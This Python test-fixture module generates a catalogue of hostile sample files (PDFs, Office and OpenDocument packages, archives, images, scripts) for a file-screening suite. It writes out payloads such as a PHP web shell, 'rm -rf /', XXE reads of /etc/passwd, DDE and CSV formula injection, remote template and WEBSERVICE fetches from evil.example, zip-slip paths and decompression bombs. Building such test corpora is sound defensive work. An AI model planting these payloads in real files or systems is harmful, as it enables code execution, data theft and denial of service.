"""Files that nobody should have to open: made here, one trick each.

Every maker yields (what it is, name, content). PLANTED stands in images for what must not survive.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache

import openpyxl
import pypdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from applications.files.judge import EICAR
from tests.applications import benign

Hostile = tuple[str, str, bytes]
PLANTED = b"PLANTED-CONTENT"
PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 60 + b"This program cannot be run in DOS mode." + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


# --- programs, markup, archives ----------------------------------------------------------------------------------


def programs() -> Iterator[Hostile]:
    yield "a program", "setup.exe", PROGRAM
    yield "a program called PDF", "договор.pdf", PROGRAM
    yield "a program called DOCX", "договор.docx", PROGRAM
    yield "a program called JPG", "фото.jpg", PROGRAM
    yield "a program called TXT", "readme.txt", PROGRAM
    yield "a program behind a right-to-left mark", "договор‮fdp.exe", PROGRAM
    yield "a program of Linux", "run.txt", b"\x7fELF\x02\x01\x01" + b"\x00" * 100
    yield "a program of macOS", "run.pdf", b"\xcf\xfa\xed\xfe" + b"\x00" * 100
    yield "a Java class", "A.txt", b"\xca\xfe\xba\xbe\x00\x00\x004" + b"\x00" * 50
    yield "a Windows shortcut", "договор.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 100
    yield "an installer", "setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    yield "an old Word file", "письмо.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    yield "a protected workbook", "прайс.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 40
    yield "a shell script", "run.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "a batch file", "run.txt", b"@echo off\r\ndel *.*\r\n"
    yield "a command for PowerShell", "run.txt", b"start\r\npowershell -enc SQBFAFgA\r\n"
    yield "a script for Windows", "run.txt", b'Set s = CreateObject("x")\nWScript.Echo 1\n'
    yield "a text called JS", "run.js", b"var a = 1;\n"
    yield "a text called BAT", "run.bat", b"dir\r\n"
    yield "a text called HTML", "index.html", b"hello\n"
    yield "a registry file", "a.txt", b"Windows Registry Editor Version 5.00\r\n"
    yield "an internet shortcut", "a.txt", b"[InternetShortcut]\r\nURL=file://evil/share\r\n"


def markup() -> Iterator[Hostile]:
    yield "HTML", "index.html", HTML
    yield "HTML called PDF", "счёт.pdf", HTML
    yield "HTML called TXT", "a.txt", HTML
    yield "HTML called PNG", "a.png", HTML
    yield "HTML behind spaces", "a.txt", b" \r\n\t " + HTML
    yield "HTML behind a mark", "a.txt", b"\xef\xbb\xbf" + HTML
    yield "HTML in UTF-16", "a.txt", HTML.decode().encode("utf-16")
    yield "a script inside a text", "a.csv", b"name;value\nx;<script>alert(1)</script>\n"
    yield "a link that is a script", "a.txt", b"see javascript:alert(document.cookie)\n"
    yield "PHP", "a.txt", b"<?php system($_GET['c']); ?>"
    yield "PHP after text", "a.txt", b"hello\n<?php system('id'); ?>"
    yield "SVG", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "SVG called PNG", "logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "XML called TXT", "a.txt", b'<?xml version="1.0"?><a/>'
    yield "XML that is cut", "a.xml", b'<?xml version="1.0"?><a>'
    yield "XML with entities", "a.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "XML that is a page", "a.xml", b'<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></a>'
    yield "XML that is a picture", "a.xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "XML with a stylesheet", "a.xml", b'<?xml-stylesheet href="data:,x" type="text/xsl"?><a/>'
    yield "XML in UTF-16", "a.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")
    yield "an external entity", "a.txt", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "a saved web page", "a.txt", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>"
    yield "rich text", "письмо.rtf", b"{\\rtf1\\ansi{\\object\\objemb}}"
    yield "rich text called TXT", "письмо.txt", b"{\\rtf1\\ansi{\\object\\objemb}}"
    yield "PostScript", "a.txt", b"%!PS-Adobe-3.0\n(x) show\n"


def texts() -> Iterator[Hostile]:
    yield "the antivirus test", "eicar.txt", EICAR
    yield "the antivirus test called COM", "eicar.com", EICAR
    yield "the antivirus test in a table", "a.csv", b"a;b\n" + EICAR + b"\n"
    yield "the antivirus test behind a picture", "a.jpg", benign.image_bytes("JPEG") + EICAR
    yield "nothing", "пустой.pdf", b""
    yield "NUL in a text", "a.txt", b"hello\x00world\n"
    yield "control characters", "a.txt", b"hello \x1b[2J\x07 world\n"
    yield "bytes without meaning", "a.txt", bytes(range(128, 256)) * 4
    yield "a table that calls a program", "a.csv", b"name;value\nx;=cmd|' /C calc'!A0\n"
    yield "another one", "a.csv", "Код,Имя\n1,\"@SUM(1+9)*cmd|' /C calc'!A0\"\n".encode()
    yield "a table that calls a program, with a plus", "a.csv", b"+cmd|' /C calc'!A0,1\n"


def archives() -> Iterator[Hostile]:
    yield "ZIP", "документы.zip", packed({"a.txt": b"a"})
    yield "ZIP called PDF", "документы.pdf", packed({"a.pdf": b"%PDF-1.4"})
    yield "ZIP called DOCX", "документы.docx", packed({"word/document.xml": b"<a/>"})
    yield "a Java archive", "a.jar", packed({"META-INF/MANIFEST.MF": b"Main-Class: A"})
    yield "RAR", "a.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50
    yield "7z", "a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50
    yield "gzip", "a.gz", zlib.compress(b"a" * 100, wbits=31)
    yield "bzip2", "a.bz2", b"BZh91AY&SY" + b"\x00" * 50
    yield "cabinet", "a.cab", b"MSCF" + b"\x00" * 50
    yield "an empty ZIP", "a.zip", b"PK\x05\x06" + b"\x00" * 18


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these parts in this order."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return written.getvalue()


# --- PDF ---------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes, tail: bytes = b"", trailer: bytes = b"", catalog: bytes = b"") -> bytes:
    """A one-page PDF with more objects from number 4 on."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        *objects,
    ]
    body = b"%PDF-1.7\n"
    places = []
    for number, part in enumerate(parts, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    at = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, trailer, at)
    return body + tail


def hexadecimal(body: bytes) -> bytes:
    return body.hex().encode() + b">"


def object_stream(inside: bytes, dictionary: bytes = b"/Filter/FlateDecode", pack: Callable = zlib.compress) -> bytes:
    """Object 9 inside a stream of objects."""
    body = b"9 0 " + inside
    data = pack(body)
    return b"<</Type/ObjStm/N 1/First 4/Length %d%s>>stream\n%s\nendstream" % (len(data), dictionary, data)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def pdfs() -> Iterator[Hostile]:
    def made(what: str, content: bytes) -> Hostile:
        return f"PDF: {what}", "счёт.pdf", content

    yield made("a script", pdf(SCRIPT))
    yield made("a script when it is opened", pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"))
    yield made("a script by name", pdf(b"<</Names[(a) 5 0 R]>>", SCRIPT, catalog=b"/Names<</JavaScript 4 0 R>>"))
    yield made("a script with an escaped name", pdf(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"))
    yield made("a script among compressed objects", pdf(object_stream(SCRIPT)))
    yield made(
        "a script among objects in hexadecimal", pdf(object_stream(SCRIPT, b"/Filter/ASCIIHexDecode", hexadecimal))
    )
    yield made("a script among objects that are not compressed", pdf(object_stream(SCRIPT, b"", bytes)))
    yield made(
        "a script among objects whose filter is hidden behind a string",
        pdf(object_stream(SCRIPT, b"/X(s)/Filter/ASCIIHexDecode", hexadecimal)),
    )
    yield made(
        "a script among objects with two filters",
        pdf(object_stream(SCRIPT, b"/Filter[/ASCIIHexDecode/FlateDecode]", lambda b: zlib.compress(b).hex().encode())),
    )
    yield made(
        "a script among objects with a predictor",
        pdf(object_stream(SCRIPT, b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
    )
    yield made("a filter named twice", pdf(object_stream(SCRIPT, b"/Filter/FlateDecode/Filter/ASCIIHexDecode")))
    yield made(
        "a script in an object inside a string", pdf(b"<</A(7 0 obj " + SCRIPT.replace(b"(", b"\\(") + b" endobj)>>")
    )
    yield made("a script in an object behind an open bracket", pdf(b"<</A 1>> ( 8 0 obj " + SCRIPT))
    yield made("a script in an object that begins with comments", pdf(b"null endobj 7%x\n0%y\nobj" + SCRIPT))
    yield made("a script in a comment", pdf(b"<</A 1 % /JS\n>>"))
    yield made("a script behind a false end of object", pdf(b"<</A endobj /S/JavaScript/JS(x)>>"))
    yield made("a script behind a false stream", pdf(b"<</A stream /S/JavaScript/JS(x)>>"))
    yield made(
        "a script inside the bytes of a stream",
        pdf(b"<</Length 60>>stream\n7 0 obj" + SCRIPT + b"endobj\nendstream"),
    )
    yield made("a bracket inside hexadecimal that would swallow a script", pdf(b"<</A<41(42>/S/JavaScript/JS(x)>>"))
    yield made("a script added later", pdf() + b"4 0 obj" + SCRIPT + b"endobj\nstartxref\n0\n%%EOF\n")
    yield made("a program to launch", pdf(b"<</S/Launch/F(calc.exe)>>"))
    yield made("an attachment", pdf(b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"))
    yield made("attachments by name", pdf(catalog=b"/Names<</EmbeddedFiles<</Names[]>>>>"))
    yield made("rich media", pdf(b"<</Subtype/RichMedia>>"))
    yield made("a film", pdf(b"<</Subtype/Movie>>"))
    yield made("a sound", pdf(b"<</S/Sound>>"))
    yield made("a rendition", pdf(b"<</S/Rendition>>"))
    yield made("an XFA form", pdf(catalog=b"/AcroForm<</XFA[]>>"))
    yield made("a form that sends itself", pdf(b"<</S/SubmitForm/F(http://evil.example)>>"))
    yield made("a form that takes data in", pdf(b"<</S/ImportData/F(x)>>"))
    yield made("a way into an attachment", pdf(b"<</S/GoToE/T<<>>>>"))
    yield made("a way into another file", pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"))
    yield made("encryption", pdf(trailer=b"/Encrypt 4 0 R"))
    yield made("encryption behind a comment", pdf().replace(b"trailer\n<<", b"trailer%x\n<</Encrypt 4 0 R"))
    yield made(
        "an address fetched on opening", pdf(b"<</S/URI/URI(http://evil.example)>>", catalog=b"/OpenAction 4 0 R")
    )
    yield made("an address fetched on opening, at once", pdf(catalog=b"/OpenAction<</S/URI/URI(http://evil.example)>>"))
    yield made("an address fetched on turning the page", pdf(b"<</AA<</O<</S/URI/URI(http://evil.example)>>>>>>"))
    yield made("an action that nobody can see", pdf(catalog=b"/OpenAction 77 0 R"))
    yield made("a program behind it", pdf(tail=PROGRAM))
    yield made("HTML behind it", pdf(tail=HTML))
    yield made("an archive behind it", pdf(tail=packed({"a.exe": PROGRAM})))
    yield made("an archive whose comment ends like a PDF", pdf()[:-6] + packed({"a": b"a"}) + b"\nstartxref\n0\n%%EOF")
    yield made("HTML in its beginning", pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html><script>alert(1)</script>\n"))
    yield made("something before it", b"GIF89a" + pdf())
    yield made("cut short", pdf()[:-40])
    yield made("no pages", b"%PDF-1.4\n1 0 obj<<>>endobj\nstartxref\n0\n%%EOF")
    yield made("only its name", b"%PDF-1.4")
    yield made("an unknown version", pdf().replace(b"%PDF-1.7", b"%PDF-9.9"))
    yield made("objects that unpack to 40 MB", pdf(object_stream(b" " * 40_000_000)))
    locked = pypdf.PdfWriter()
    locked.add_blank_page(100, 100)
    locked.encrypt("secret")
    yield made("a password", _written(locked))
    holding = pypdf.PdfWriter()
    holding.add_blank_page(100, 100)
    holding.add_attachment("setup.exe", PROGRAM)
    yield made("a program attached by a library", _written(holding))


def _written(writer: pypdf.PdfWriter) -> bytes:
    body = io.BytesIO()
    writer.write(body)
    return body.getvalue()


# --- Office Open XML ---------------------------------------------------------------------------------------------


def parts_of(content: bytes) -> dict[str, bytes]:
    """The parts of an honest package, to be spoilt."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def honest(kind: str) -> dict[str, bytes]:
    """The parts of a small honest DOCX, XLSX or PPTX, free to be changed."""
    return dict(_honest(kind))


@cache
def _honest(kind: str) -> dict[str, bytes]:
    if kind == "xlsx":
        book = openpyxl.Workbook()
        book.active["A1"] = "=1+1"
        return parts_of(benign._saved(book))
    library = {"docx": benign.docx.Document, "pptx": benign.pptx.Presentation}[kind]
    return parts_of(benign._saved(library()))


def spoilt(kind: str, *edits: tuple[str, str, str], **parts: bytes) -> bytes:
    """An honest package with words of its parts replaced and parts added (__ stands for / and _DOT_ for a dot)."""
    found = honest(kind)
    for name, old, new in edits:
        text = found[name].decode()
        assert old in text, (name, old)
        found[name] = text.replace(old, new, 1).encode()
    found |= {name.replace("__", "/").replace("_DOT_", "."): body for name, body in parts.items()}
    return packed(found)


def relation(kind: str, target: str, external: bool = True) -> tuple[str, str, str]:
    """One more relationship of a Word document."""
    mode = ' TargetMode="External"' if external else ""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    more = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    return "word/_rels/document.xml.rels", "</Relationships>", more


def field(*runs: str) -> tuple[str, str, str]:
    """A field of Word, its instruction split into runs."""
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{word}"/></w:r>' for word in ("begin", "end"))
    return "word/document.xml", "<w:body>", f"<w:body><w:p>{begin}{inside}{end}</w:p>"


def formula(text: str) -> tuple[str, str, str]:
    return "xl/worksheets/sheet1.xml", "<f>1+1</f>", f"<f>{text}</f>"


def declared(extension: str, content_type: str) -> tuple[str, str, str]:
    """One more default in the table of content types."""
    line = f'<Default Extension="{extension}" ContentType="{content_type}"/></Types>'
    return "[Content_Types].xml", "</Types>", line


WORD_MAIN = "wordprocessingml.document.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def office() -> Iterator[Hostile]:
    def docx(what: str, *edits: tuple[str, str, str], **parts: bytes) -> Hostile:
        return f"DOCX: {what}", "письмо.docx", spoilt("docx", *edits, **parts)

    def xlsx(what: str, *edits: tuple[str, str, str], **parts: bytes) -> Hostile:
        return f"XLSX: {what}", "прайс.xlsx", spoilt("xlsx", *edits, **parts)

    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield docx(
        "macros by their type",
        ("[Content_Types].xml", f"application/vnd.openxmlformats-officedocument.{WORD_MAIN}", macro),
    )
    yield docx("macros", declared("bin", "application/vnd.ms-office.vbaProject"), word__vbaProject_DOT_bin=OLE)
    yield docx("macros without a type", word__vbaProject_DOT_bin=OLE)
    yield docx("a relationship to macros", relation("vbaProject", "vbaProject.bin", external=False))
    yield docx("a template from the network", relation("attachedTemplate", "https://evil.example/t.dotm"))
    yield docx("a template from a share", relation("attachedTemplate", "\\\\evil\\share\\t.dotm"))
    yield docx("a template from a share, as an address", relation("attachedTemplate", "file://evil/share/t.dotm"))
    yield docx("a picture from the network", relation("image", "https://evil.example/pixel.png"))
    yield docx("an object from the network", relation("oleObject", "https://evil.example/x.rtf"))
    yield docx("a page in a frame", relation("frame", "https://evil.example/"))
    yield docx("another document inside", relation("subDocument", "other.docx", external=False))
    yield docx("a web page inside", relation("aFChunk", "chunk.htm", external=False), word__chunk_DOT_htm=HTML)
    yield docx("a web page inside that nobody names", word__chunk_DOT_htm=HTML)
    yield docx("a link that is a script", relation("hyperlink", "javascript:alert(1)"))
    yield docx("a link to a share", relation("hyperlink", "\\\\evil\\share\\a.exe"))
    yield docx("a link to a local file", relation("hyperlink", "file:///C:/Windows/System32/calc.exe"))
    yield docx("a link for an installed program", relation("hyperlink", "ms-msdt:/id PCWDiagnostic"))
    yield docx("a control", relation("control", "activeX/activeX1.xml", external=False))
    yield docx("an object", word__embeddings__oleObject1_DOT_bin=OLE)
    yield docx("a program", word__embeddings__a_DOT_exe=PROGRAM)
    yield docx("a document among its objects", word__embeddings__a_DOT_docx=spoilt("docx"))
    yield docx("a program called PNG", word__media__image1_DOT_png=PROGRAM)
    yield docx(
        "a drawing with a script",
        word__media__a_DOT_svg=b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    )
    yield docx("a drawing that acts", word__media__a_DOT_svg=b'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>')
    yield docx(
        "a drawing from elsewhere",
        word__media__a_DOT_svg=b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/"/></svg>',
    )
    yield docx("a script file", word__a_DOT_js=b"alert(1)")
    yield docx("a call to another program", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))
    yield docx("a call to another program, in pieces", field("DD", "E", "AUTO c:\\\\cmd.exe"))
    yield docx(
        "a call to another program, in a simple field",
        ("word/document.xml", "<w:body>", '<w:body><w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'),
    )
    yield docx("text from another file", field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'))
    yield docx("a picture from a share", field('INCLUDEPICTURE "\\\\\\\\evil\\\\a.png"'))
    yield docx("a link to another program", field("LINK Excel.Sheet.8 c:\\\\a.xls"))
    entity = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield docx("an external entity", ("word/document.xml", "<w:document", f"{entity}<w:document"))
    laughs = (
        "<!DOCTYPE w [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)) + "]>"
    )
    yield docx("a billion laughs", ("word/document.xml", "<w:document", f"{laughs}<w:document"))
    yield docx("an entity among the types", ("[Content_Types].xml", "<Types", f"{entity}<Types"))
    found = honest("docx")
    text = found["word/document.xml"].decode().partition("?>")[2]
    found["word/document.xml"] = ('<?xml version="1.0" encoding="UTF-16"?>' + entity + text).encode("utf-16")
    yield "DOCX: an entity in UTF-16", "письмо.docx", packed(found)
    yield docx("broken XML", ("word/document.xml", "</w:body>", ""))
    yield docx("a template of macros", ("[Content_Types].xml", WORD_MAIN, "wordprocessingml.template.main+xml"))
    yield docx("no document", ("_rels/.rels", '/officeDocument"', '/nothing"'))

    yield xlsx("a call to another program", formula("cmd|' /C calc'!A0"))
    yield xlsx("a call to the network", formula("_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)"))
    yield xlsx("a call to the system", formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)"))
    sheet = "application/vnd.ms-excel.macrosheet+xml"
    yield xlsx(
        "a sheet of macros",
        (
            "[Content_Types].xml",
            "</Types>",
            f'<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="{sheet}"/></Types>',
        ),
        xl__macrosheets__sheet1_DOT_xml=b"<a/>",
    )
    link = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    yield xlsx(
        "a link to another workbook",
        (
            "[Content_Types].xml",
            "</Types>",
            f'<Override PartName="/xl/externalLinks/e1.xml" ContentType="{link}"/></Types>',
        ),
        xl__externalLinks__e1_DOT_xml=b"<a/>",
    )
    connection = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    yield xlsx(
        "a connection to data",
        (
            "[Content_Types].xml",
            "</Types>",
            f'<Override PartName="/xl/connections.xml" ContentType="{connection}"/></Types>',
        ),
        xl__connections_DOT_xml=b"<a/>",
    )
    yield xlsx(
        "settings of a printer that are a program",
        declared("bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"),
        xl__printerSettings__printerSettings1_DOT_bin=PROGRAM,
    )
    inner = spoilt("xlsx", formula("cmd|' /C calc'!A0"))
    yield (
        "PPTX: a chart whose workbook calls a program",
        "показ.pptx",
        spoilt("pptx", ppt__embeddings__a_DOT_xlsx=inner),
    )
    outer = spoilt("xlsx", xl__embeddings__a_DOT_xlsx=spoilt("xlsx"))
    yield "PPTX: a workbook inside a workbook", "показ.pptx", spoilt("pptx", ppt__embeddings__a_DOT_xlsx=outer)
    yield "PPTX: a film", "показ.pptx", spoilt("pptx", ppt__media__a_DOT_mp4=b"\x00\x00\x00\x18ftypmp42")


# --- the archive itself ------------------------------------------------------------------------------------------


def containers() -> Iterator[Hostile]:
    def made(what: str, content: bytes) -> Hostile:
        return f"archive: {what}", "письмо.docx", content

    whole = spoilt("docx")
    yield made("something before it", b"GIF89a" + whole)
    yield made("a program before it", PROGRAM + whole)
    yield made("a program behind it", whole + PROGRAM)
    yield made("a comment", whole[:-2] + struct.pack("<H", 5) + b"<html")
    yield made("cut short", whole[:-30])
    yield made("a member that unpacks to 110 MB", spoilt("docx", word__media__a_DOT_bmp=b"BM" + b"\x00" * 110_000_000))
    yield made("a member that unpacks to 20 MB", spoilt("docx", word__media__a_DOT_bmp=b"BM" + b"\x00" * 20_000_000))
    yield made("three thousand members", spoilt("docx", **{f"word__a{n}_DOT_xml": b"<a/>" for n in range(3000)}))
    yield made("a way out of its folder", packed(honest("docx") | {"../../etc/cron.d/a.xml": b"<a/>"}))
    yield made("an absolute name", packed(honest("docx") | {"/etc/a.xml": b"<a/>"}))
    yield made("a name with a drive", packed(honest("docx") | {"C:a.xml": b"<a/>"}))
    yield made("two names that differ in case only", packed(honest("docx") | {"WORD/DOCUMENT.XML": b"<a/>"}))
    yield made("a folder with content", packed(honest("docx") | {"word/a/": PROGRAM}))
    yield made("an unusual way of packing", packed(honest("docx"), zipfile.ZIP_BZIP2))
    yield made("encryption", _flagged(whole))
    yield made("a wrong checksum", _patched(whole, b"PK\x01\x02", 16, b"\x00\x00\x00\x00"))
    yield made("a size that lies", _patched(whole, b"PK\x01\x02", 24, struct.pack("<L", 10)))
    yield made("another name in the directory", whole[::-1].replace(b"lmx.]sepyT", b"lmx.]sepyU", 1)[::-1])
    yield made("bytes between its members", _with_gap(whole))
    yield made("a symbolic link", _with_link())
    yield made("two directories", whole + whole)


def _patched(content: bytes, mark: bytes, offset: int, new: bytes) -> bytes:
    at = content.index(mark) + offset
    return content[:at] + new + content[at + len(new) :]


def _flagged(content: bytes) -> bytes:
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content = _patched(content, mark, offset, b"\x01")
    return content


def _with_gap(content: bytes) -> bytes:
    """Bytes before the directory, every place moved so that lenient readers are content."""
    at = content.index(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    moved = struct.pack("<L", at + len(PROGRAM))
    return content[:at] + PROGRAM + content[at : end + 16] + moved + content[end + 20 :]


def _with_link() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name, body in honest("docx").items():
            archive.writestr(name, body)
        link = zipfile.ZipInfo("word/media/a.png")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


# --- OpenDocument ------------------------------------------------------------------------------------------------


@cache
def _honest_text() -> dict[str, bytes]:
    return parts_of(next(iter(benign.open_documents()))[1])


def open_document(*edits: tuple[str, str, str], first: bool = True, kind: str = "text", **parts: bytes) -> bytes:
    """An honest ODT, spoilt."""
    found = dict(_honest_text())
    for name, old, new in edits:
        text = found[name].decode()
        assert old in text, (name, old)
        found[name] = text.replace(old, new, 1).encode()
    found |= {name.replace("__", "/").replace("_DOT_", "."): body for name, body in parts.items()}
    mimetype = found.pop("mimetype").replace(b"text", kind.encode())
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr("mimetype", mimetype, zipfile.ZIP_STORED)
        for name, body in found.items():
            archive.writestr(name, body)
        if not first:
            archive.writestr("mimetype", mimetype)
    return written.getvalue()


def inside(element: str) -> tuple[str, str, str]:
    """One more element in the text of the document."""
    return "content.xml", "<office:text>", f"<office:text>{element}"


def open_documents() -> Iterator[Hostile]:
    def odt(what: str, content: bytes) -> Hostile:
        return f"ODT: {what}", "письмо.odt", content

    spaces = (
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    )
    yield odt("a macro", open_document(Basic__Standard__Module1_DOT_xml=b"<a/>"))
    yield odt("a script", open_document(Scripts__python__a_DOT_py=b"import os"))
    yield odt(
        "a listener", open_document(inside(f'<script:event-listener {spaces} xlink:href="vnd.sun.star.script:a"/>'))
    )
    yield odt(
        "a picture from the network",
        open_document(inside(f'<draw:image {spaces} xlink:href="https://evil.example/p.png"/>')),
    )
    yield odt("a picture from a share", open_document(inside(f'<draw:image {spaces} xlink:href="\\\\evil\\p.png"/>')))
    yield odt(
        "a picture from the disk", open_document(inside(f'<draw:image {spaces} xlink:href="../../../etc/passwd"/>'))
    )
    yield odt("an object", open_document(inside(f'<draw:object-ole {spaces} xlink:href="./Object 1"/>')))
    yield odt("a plug-in", open_document(inside(f'<draw:plugin {spaces} xlink:href="a.swf"/>')))
    yield odt("a frame", open_document(inside(f'<draw:floating-frame {spaces} xlink:href="http://evil.example"/>')))
    yield odt("a link that is a script", open_document(inside(f'<draw:a {spaces} xlink:href="javascript:alert(1)"/>')))
    yield odt("a table from another file", open_document(inside(f'<table:table-source {spaces} xlink:href="a.ods"/>')))
    yield odt(
        "a formula that calls a program",
        open_document(inside(f'<table:table-cell {spaces} table:formula="of:=DDE(1)"/>')),
    )
    yield odt(
        "a formula that fetches",
        open_document(inside(f'<table:table-cell {spaces} table:formula="of:=WEBSERVICE(1)"/>')),
    )
    yield odt(
        "a template from the network",
        open_document(
            (
                "meta.xml",
                "<office:meta>",
                f'<office:meta><draw:template {spaces} xlink:href="http://evil.example/t.ott"/>',
            )
        ),
    )
    yield odt(
        "an entity",
        open_document(
            ("content.xml", "<office:document-content", '<!DOCTYPE a [<!ENTITY x "y">]><office:document-content')
        ),
    )
    yield odt("a program", open_document(Pictures__a_DOT_exe=PROGRAM))
    yield odt("a program called PNG", open_document(Pictures__a_DOT_png=PROGRAM))
    yield odt("binary data called an object", open_document(Object_1=OLE))
    yield odt("a kind that stands last", open_document(first=False))
    yield odt(
        "encryption",
        open_document(
            ("META-INF/manifest.xml", "</manifest:manifest>", "<manifest:encryption-data/></manifest:manifest>")
        ),
    )
    yield odt("a database", open_document(kind="base"))


# --- images ------------------------------------------------------------------------------------------------------


def images() -> Iterator[Hostile]:
    photo, drawing = benign.image_bytes("JPEG"), benign.image_bytes("PNG")
    yield "image: an archive behind a photograph", "a.jpg", photo + packed({"a": PLANTED}, zipfile.ZIP_STORED)
    yield "image: PHP behind a photograph", "a.jpg", photo + b"<?php " + PLANTED
    yield "image: PHP in a comment", "a.jpg", benign.image_bytes("JPEG", comment=b"<?php " + PLANTED)
    exif = Image.Exif()
    exif[0x010E] = PLANTED.decode()
    yield "image: where and by whom it was taken", "a.jpg", benign.image_bytes("JPEG", exif=exif)
    yield "image: a profile that holds something", "a.jpg", benign.image_bytes("JPEG", icc_profile=PLANTED * 10)
    yield "image: HTML behind a drawing", "a.png", drawing + b"<script>" + PLANTED
    words = PngInfo()
    words.add_text("Comment", "<script>" + PLANTED.decode())
    yield "image: HTML in a text of a drawing", "a.png", benign.image_bytes("PNG", pnginfo=words)
    yield "image: EXIF in a drawing", "a.png", benign.image_bytes("PNG", exif=exif)
    yield "image: a photograph cut short", "a.jpg", photo[: len(photo) // 2]
    yield "image: a drawing cut short", "a.png", drawing[: len(drawing) // 2]
    yield "image: only a beginning", "a.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100
    yield "image: a wrong checksum", "a.png", drawing[:40] + b"\x00\x00" + drawing[42:]
    yield "image: as large as a city", "a.png", _huge(60_000, 60_000)
    yield "image: as long as a river", "a.png", _huge(100_000, 10)
    yield "image: 80 megapixels", "a.png", _huge(8_000, 10_000)
    for kind, name in (("GIF", "a.gif"), ("BMP", "a.bmp"), ("TIFF", "a.tif"), ("WEBP", "a.webp"), ("ICO", "a.ico")):
        yield f"image: {kind}", name, benign.image_bytes(kind, benign.picture((64, 64)))
    yield "image: GIF called JPG", "a.jpg", benign.image_bytes("GIF", benign.picture((64, 64)))
    yield "image: HEIC", "a.heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 100


def _huge(width: int, height: int) -> bytes:
    """A drawing that claims to be of that size and holds a few bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

